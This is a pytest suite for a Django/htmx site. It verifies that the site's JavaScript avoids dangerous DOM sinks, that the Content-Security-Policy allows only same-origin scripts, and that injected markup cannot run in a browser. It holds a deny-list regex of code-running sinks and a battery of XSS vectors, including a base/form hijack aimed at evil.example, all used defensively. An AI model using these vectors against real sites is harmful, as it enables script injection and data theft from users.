"""Scripts of ours make no markup of words, and markup that got onto a page would run nothing (checks 21 and 22)."""

from __future__ import annotations

import json
import re
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from tests.run import ROOT
from tests.support import browser
from tests.support.page_text import markup_of

pytestmark = pytest.mark.sqlite_alone

SCRIPTS = sorted((ROOT / "static" / "js").glob("*.js"))
# What turns text into markup or code. A <template> is read only: nothing in it loads or runs.
DANGEROUS = re.compile(
    r"outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function|setTimeout\(\s*[\"'`]|setInterval\(\s*[\"'`]"
    r"|srcdoc|createContextualFragment|setHTMLUnsafe|javascript:|window\.addEventListener\([\"']message"
)


@pytest.mark.parametrize("path", SCRIPTS, ids=lambda path: path.name)
def test_a_script_makes_no_code_of_text_and_markup_only_in_a_template(path: Path) -> None:
    text = path.read_text("utf-8")
    assert DANGEROUS.findall(text) == []
    for box in re.findall(r"(\S+)\.innerHTML\s*\+?=", text):
        assert f'const {box} = document.createElement("template")' in text


def test_the_scripts_are_found_and_some_do_read_markup() -> None:
    texts = [path.read_text("utf-8") for path in SCRIPTS]
    assert len(texts) >= 5
    assert any(".innerHTML =" in text for text in texts)


@pytest.mark.django_db
def test_the_policy_lets_files_of_ours_run_and_htmx_runs_no_text() -> None:
    page = Client().get(reverse("start"))
    policy = dict(
        part.strip().partition(" ")[::2] for part in page["Content-Security-Policy"].split(";") if part.strip()
    )
    scripts = policy.get("script-src", policy["default-src"])
    assert scripts.split() == ["'self'"]
    assert "unsafe" not in page["Content-Security-Policy"]
    told = re.search(r"name=\"htmx-config\" content='([^']+)'", markup_of(page))
    assert told
    assert json.loads(unescape(told[1]))["allowEval"] is False


def test_no_address_answers_with_a_script_that_a_query_names() -> None:
    """No JSONP: an answer that runs as a script and says what its address says would pass the policy."""
    for path in (ROOT / "assessments").rglob("*.py"):
        assert not re.search(r"application/(?:x-)?javascript|text/javascript|jsonp", path.read_text("utf-8")), path.name


# Every way in which markup that slipped onto a page would run something.
SLIPPED = """
  () => {
    window.ran = [];
    const main = document.querySelector("main");
    const put = (html) => { const box = document.createElement("div"); main.append(box); box.innerHTML = html; return box; };
    put('<img src="/static/none.png" onerror="window.ran.push(1)">');
    put('<svg onload="window.ran.push(2)"></svg>');
    put('<button id="pressed" onclick="window.ran.push(3)">x</button>');
    document.getElementById("pressed").click();
    put('<a id="led" href="javascript:window.ran.push(4)">x</a>');
    document.getElementById("led").click();
    const inline = document.createElement("script");
    inline.textContent = "window.ran.push(5)";
    main.append(inline);
    const data = document.createElement("script");
    data.src = "data:text/javascript,window.ran.push(6)";
    main.append(data);
    setTimeout(() => { try { new Function("window.ran.push(7)")(); } catch { /* refused */ } });  // later: a test tool may
    const box = put('<i id="listens" hx-on:click="window.ran.push(8)" hx-trigger="click[window.ran.push(9)]" hx-get="/">x</i>');
    window.htmx?.process(box);
    document.getElementById("listens").click();
    put('<iframe srcdoc="<script>parent.ran.push(10)</script>"></iframe>');
    put('<base href="https://evil.example/"><form id="sent" action="https://evil.example/"><input name="a"></form>');
    document.getElementById("sent").requestSubmit();
  }
"""


@pytest.mark.long
@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("published")
def test_markup_that_slipped_onto_a_page_runs_nothing_in_a_browser(live_server: Any, chromium: Any) -> None:
    with browser.new_page(chromium) as page:
        watch = browser.Watch(page)
        page.goto(live_server.url + reverse("account_login"))
        assert page.evaluate("Boolean(window.htmx)")
        assert watch.faults() == []
        page.evaluate(SLIPPED)
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") == []
        assert page.url.startswith(live_server.url)
        assert page.evaluate("document.baseURI").startswith(live_server.url)
        refused = " ".join(watch.faults())
    for directive in ("script-src-attr", "script-src-elem", "base-uri", "form-action"):
        assert directive in refused
